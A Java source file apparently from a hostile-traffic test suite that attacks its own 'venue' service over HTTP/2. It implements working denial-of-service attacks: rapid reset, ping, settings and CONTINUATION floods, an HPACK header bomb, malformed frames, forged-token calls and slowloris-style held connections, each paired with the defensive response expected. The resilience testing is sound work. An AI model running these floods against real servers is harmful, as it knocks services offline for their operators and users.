package bourse.services.hostile;

import static bourse.services.hostile.RawHttp2.CONTINUATION;
import static bourse.services.hostile.RawHttp2.DATA;
import static bourse.services.hostile.RawHttp2.END_HEADERS;
import static bourse.services.hostile.RawHttp2.HEADERS;
import static bourse.services.hostile.RawHttp2.PING;
import static bourse.services.hostile.RawHttp2.PRIORITY;
import static bourse.services.hostile.RawHttp2.RST_STREAM;
import static bourse.services.hostile.RawHttp2.SETTINGS;
import static bourse.services.hostile.RawHttp2.WINDOW_UPDATE;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.function.Predicate;

/** What can be done to HTTP/2 and the sockets below it. */
final class TransportAttacks {
    private static final int CANCEL = 8;
    private static final int FRAMES_A_FLUSH = 64;
    private static final int MOST_FRAMES = 1_000_000;
    /** Of a connection that has begun: what the venue bears of the cheapest ones is 20,000 a second. */
    private static final int LEAST_FRAMES = 30_000;
    private static final int SMALL_HEADERS = 4_000;
    private static final int IDLE_CONNECTIONS = 200;
    private static final int MANY_CONNECTIONS = 1_000;
    /** The venue has ended it. Where more of the flood was on its way the reset may overtake the GOAWAY. */
    private static final Predicate<Answers> CALMED = answers -> answers.of("GOAWAY ENHANCE_YOUR_CALM") + answers.of("connection refused or reset") > 0;

    /** Writes one more frame to a connection. */
    @FunctionalInterface
    private interface Frame {
        void write(RawHttp2 connection, int index, String token) throws IOException;
    }

    private TransportAttacks() {
    }

    static List<Attack> all() {
        return List.of(
            flood("rapid reset", "HEADERS with a good token, RST_STREAM at once", CALMED, (to, i, token) -> {
                to.call(2 * i + 1, to.path(), token);
                to.frame(RST_STREAM, 0, 2 * i + 1, RawHttp2.integer(CANCEL));
            }),
            flood("ping flood", "PING frames", CALMED, (to, i, token) -> to.frame(PING, 0, 0, new byte[8])),
            flood("settings flood", "SETTINGS frames", CALMED, (to, i, token) -> to.frame(SETTINGS, 0, 0)),
            flood("priority flood", "PRIORITY frames for streams that do not exist", CALMED,
                (to, i, token) -> to.frame(PRIORITY, 0, 2 * i + 1, new byte[] {0, 0, 0, 0, 1})),
            flood("window update flood", "WINDOW_UPDATE of 1 byte", CALMED, (to, i, token) -> to.frame(WINDOW_UPDATE, 0, 0, RawHttp2.integer(1))),
            flood("server-made resets", "a call, and WINDOW_UPDATE of 0 to it, which the server must answer by a reset", CALMED, (to, i, token) -> {
                to.call(2 * i + 1, to.path(), token);
                to.frame(WINDOW_UPDATE, 0, 2 * i + 1, RawHttp2.integer(0));
            }),
            flood("empty data", "one call, then empty DATA frames", CALMED, (to, i, token) -> {
                if (i == 0) {
                    to.call(1, to.path(), token);
                }
                to.frame(DATA, 0, 1);
            }),
            flood("continuation flood", "HEADERS, then CONTINUATION frames of 1 byte without an end", CALMED, (to, i, token) -> {
                if (i == 0) {
                    to.frame(HEADERS, 0, 1, RawHttp2.request(to.path(), token));
                }
                to.frame(CONTINUATION, 0, 1, (byte) 0x82);
            }),
            flood("header flood", "calls with 4,000 small fields (60 kB) each", refused("RST_STREAM", "HTTP 431", "GOAWAY"),
                (to, i, token) -> manyFields(to, 2 * i + 1, token)),
            flood("header bomb", "one field of 4 kB in the HPACK table, then 4,000 references to it (16 MB)", refused("RST_STREAM", "HTTP 431", "GOAWAY"),
                (to, i, token) -> bomb(to, 2 * i + 1, token)),
            flood("calls to nowhere", "calls of a method that does not exist", CALMED,
                (to, i, token) -> to.call(2 * i + 1, "/no.such.Service/Method", token)),
            flood("calls without a token", "the call that streams, without metadata", CALMED,
                (to, i, token) -> to.call(2 * i + 1, to.path(), null)),
            flood("calls with a forged token", "a good token with another signature each time", CALMED,
                (to, i, token) -> to.call(2 * i + 1, to.path(), forged(token, i))),
            once("oversize frame", "a DATA frame that says it has 16 MB", answers -> answers.of("GOAWAY FRAME_SIZE_ERROR") > 0, to -> {
                to.call(1, to.path(), "x");
                to.head(0xFFFFFF, DATA, 0, 1);
                to.raw(new byte[1024]);
            }),
            once("truncated frame", "half of a HEADERS frame, then the end of the connection", answers -> answers.of("closed") > 0, to -> {
                to.head(100, HEADERS, END_HEADERS, 1);
                to.raw(new byte[50]);
                to.flush();
                to.close();
            }),
            once("frames out of order", "DATA for a stream that was never opened", refused("GOAWAY PROTOCOL_ERROR"), to -> to.frame(DATA, 0, 99, new byte[10])),
            once("window overflow", "WINDOW_UPDATE beyond 2^31", refused("GOAWAY FLOW_CONTROL_ERROR"), to -> {
                to.frame(WINDOW_UPDATE, 0, 0, RawHttp2.integer(Integer.MAX_VALUE));
                to.frame(WINDOW_UPDATE, 0, 0, RawHttp2.integer(Integer.MAX_VALUE));
            }),
            new Attack("not HTTP/2", "HTTP/1.1, a TLS handshake, zeros, random bytes", 1, TransportAttacks::otherProtocols, answers -> answers.of("closed") > 0),
            new Attack("many connections", "connections of one address that are kept, each with its settings", 1, TransportAttacks::manyConnections,
                answers -> answers.of("turned away") > 0),
            new Attack("slow handshakes", IDLE_CONNECTIONS + " connections that send the preface one byte a second", 1, TransportAttacks::slowHandshakes,
                answers -> true),
            new Attack("half-open connections", IDLE_CONNECTIONS + " connections that fall silent after their settings", 1,
                TransportAttacks::halfOpen, answers -> answers.of("SETTINGS") > 0));
    }

    private static Predicate<Answers> refused(final String... kinds) {
        return answers -> Arrays.stream(kinds).anyMatch(kind -> answers.toString().contains(kind));
    }

    /** As many frames as the connection takes; then the next connection. */
    private static Attack flood(final String name, final String what, final Predicate<Answers> expected, final Frame frame) {
        return new Attack(name, what, 1, (target, answers) -> {
            try (RawHttp2 connection = RawHttp2.open(target, answers)) {
                for (int i = 0; i < MOST_FRAMES && (target.goesOn() || i > 0 && i < LEAST_FRAMES) && !connection.isEnded(); i++) {
                    frame.write(connection, i, target.token());
                    answers.sent(1);
                    if (i % FRAMES_A_FLUSH == FRAMES_A_FLUSH - 1) {
                        connection.flush();
                    }
                }
                connection.flush();
                awaitVerdict(connection);
            }
        }, expected);
    }

    /** One character of the signature is another one. */
    private static String forged(final String token, final int number) {
        final char[] changed = token.toCharArray();
        final int at = token.lastIndexOf('.') + 1 + number % 80;
        changed[at] = changed[at] == 'A' ? 'B' : 'A';
        return new String(changed);
    }

    /** The venue takes a flood in turns: its verdict may come after the attack's time is up. */
    private static void awaitVerdict(final RawHttp2 connection) throws InterruptedException {
        for (int i = 0; i < 1_000 && !connection.isEnded(); i++) {
            Thread.sleep(2);
        }
    }

    @FunctionalInterface
    private interface Once {
        void send(RawHttp2 connection) throws IOException;
    }

    private static Attack once(final String name, final String what, final Predicate<Answers> expected, final Once deed) {
        return new Attack(name, what, 1, (target, answers) -> {
            try (RawHttp2 connection = RawHttp2.open(target, answers)) {
                answers.sent(1);
                deed.send(connection);
                connection.flush();
                awaitEnd(connection, target);
            }
        }, expected);
    }

    private static void awaitEnd(final RawHttp2 connection, final Attack.Target target) throws InterruptedException {
        for (int i = 0; i < 50 && !connection.isEnded() && target.goesOn(); i++) {
            Thread.sleep(2);
        }
    }

    private static void manyFields(final RawHttp2 to, final int stream, final String token) throws IOException {
        final ByteBuffer block = ByteBuffer.allocate(SMALL_HEADERS * 16);
        for (int i = 0; i < SMALL_HEADERS; i++) {
            RawHttp2.literal(block, "x-" + i % 1_000, "abcdef");
        }
        headers(to, stream, token, Arrays.copyOf(block.array(), block.position()));
    }

    private static void bomb(final RawHttp2 to, final int stream, final String token) throws IOException {
        final ByteBuffer block = ByteBuffer.allocate(5_000 + SMALL_HEADERS);
        block.put((byte) 0x40);
        RawHttp2.text(block, "x");
        RawHttp2.text(block, "y".repeat(4_000));
        for (int i = 0; i < SMALL_HEADERS; i++) {
            block.put((byte) (0x80 | 62));
        }
        headers(to, stream, token, Arrays.copyOf(block.array(), block.position()));
    }

    /** A request with more fields, in frames of the size that every peer takes. */
    private static void headers(final RawHttp2 to, final int stream, final String token, final byte[] more) throws IOException {
        final byte[] request = RawHttp2.request(to.path(), token);
        final byte[] block = Arrays.copyOf(request, request.length + more.length);
        System.arraycopy(more, 0, block, request.length, more.length);
        final int most = 16_384;
        for (int at = 0; at < block.length; at += most) {
            final int end = Math.min(at + most, block.length);
            to.frame(at == 0 ? HEADERS : CONTINUATION, end == block.length ? END_HEADERS : 0, stream, Arrays.copyOfRange(block, at, end));
        }
    }

    private static void otherProtocols(final Attack.Target target, final Answers answers) throws Exception {
        final byte[] random = new byte[4_096];
        new java.util.Random(7).nextBytes(random);
        final List<byte[]> openings = List.of("GET / HTTP/1.1\r\nHost: localhost\r\n\r\n".getBytes(StandardCharsets.US_ASCII),
            new byte[] {0x16, 3, 1, 2, 0, 1, 0, 1, (byte) 0xFC, 3, 3}, new byte[1_024], random);
        for (final byte[] opening : openings) {
            try (RawHttp2 connection = new RawHttp2(target, answers)) {
                connection.read();
                connection.raw(opening);
                connection.flush();
                answers.sent(1);
                awaitEnd(connection, target);
            }
        }
    }

    private static void manyConnections(final Attack.Target target, final Answers answers) throws Exception {
        hold(target, answers, MANY_CONNECTIONS, connection -> {
            connection.raw(RawHttp2.preface());
            connection.frame(SETTINGS, 0, 0);
            connection.flush();
        }, (connection, second) -> { });
    }

    private static void slowHandshakes(final Attack.Target target, final Answers answers) throws Exception {
        hold(target, answers, IDLE_CONNECTIONS, connection -> { }, (connection, second) -> {
            connection.raw(RawHttp2.preface()[second % 24]);
            connection.flush();
        });
    }

    private static void halfOpen(final Attack.Target target, final Answers answers) throws Exception {
        hold(target, answers, IDLE_CONNECTIONS, connection -> {
            connection.raw(RawHttp2.preface());
            connection.frame(SETTINGS, 0, 0);
            connection.flush();
        }, (connection, second) -> { });
    }

    @FunctionalInterface
    private interface Turn {
        void run(RawHttp2 connection, int second) throws IOException;
    }

    /** Keeps many connections until the time is up. */
    private static void hold(final Attack.Target target, final Answers answers, final int count, final Once begin, final Turn turn) throws Exception {
        final List<RawHttp2> connections = new ArrayList<>();
        try {
            for (int i = 0; i < count; i++) {
                final RawHttp2 connection = new RawHttp2(target, answers);
                connections.add(connection);
                connection.read();
                answers.sent(1);
                try {
                    begin.send(connection);
                } catch (final IOException expected) {
                    answers.count("turned away", "");
                }
            }
            for (int second = 0; target.goesOn(); second++) {
                for (final RawHttp2 connection : connections) {
                    if (!connection.isEnded()) {
                        try {
                            turn.run(connection, second);
                        } catch (final IOException expected) {
                            answers.count("turned away", "");
                        }
                    }
                }
                Thread.sleep(Math.min(1_000, Math.max(1, (target.untilNs() - System.nanoTime()) / 1_000_000)));
            }
            for (final RawHttp2 connection : connections) {
                answers.count(connection.isEnded() ? "turned away" : "open at the end", "");
            }
        } finally {
            for (final RawHttp2 connection : connections) {
                connection.close();
            }
        }
    }
}
